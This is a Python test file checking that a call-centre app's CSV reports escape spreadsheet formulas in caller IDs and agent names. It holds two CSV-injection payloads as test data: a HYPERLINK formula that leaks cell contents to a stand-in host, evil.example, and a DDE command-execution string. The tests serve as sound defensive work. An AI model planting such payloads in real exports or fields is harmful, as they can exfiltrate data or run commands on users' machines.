"""Every CSV escapes cells a spreadsheet would run (#20, R20): a caller ID is whatever the
caller's phone sends, and agents' and queues' names are typed by people."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

from app.calls.models import Call
from routing.models import AgentRow, AgentStateChange, QueueRow
from tests.db.test_reports import RANGE, T0, client  # noqa: F401 (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"call back")'


async def test_the_abandoned_csv_escapes_a_callers_formula(client, sessionmaker):  # noqa: F811
    async with sessionmaker() as session, session.begin():
        session.add(QueueRow(name="general", call_type="consultation"))
        session.add(Call(channel_id=f"x-{uuid.uuid4()}", caller_number=HOSTILE, language="zh",
                         state="ended", started_at=T0, last_seen_at=T0, queue="general",
                         enqueued_at=T0 + timedelta(seconds=5), ended_at=T0 + timedelta(seconds=60),
                         end_reason="abandoned_in_queue"))
    resp = await client.get("/api/reports/abandoned", params={**RANGE, "format": "csv"})
    (row,) = list(csv.DictReader(io.StringIO(resp.text)))
    assert row["caller_number"] == "'" + HOSTILE and row["caller_national"] == "'" + HOSTILE


async def test_the_agents_csv_escapes_an_agents_name(client, sessionmaker):  # noqa: F811
    async with sessionmaker() as session, session.begin():
        agent = AgentRow(name="@SUM(1+1)*cmd|' /C calc'!A0", extension="8123", level="junior",
                         skills={}, languages=["zh"], contact="sip:a@127.0.0.1:5999")
        session.add(agent)
        await session.flush()
        session.add(AgentStateChange(agent_id=agent.id, at=T0, from_state="x", to_state="ready",
                                     event="test"))
    resp = await client.get("/api/reports/agents", params={**RANGE, "format": "csv"})
    cells = [c for row in csv.reader(io.StringIO(resp.text)) for c in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells, resp.text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
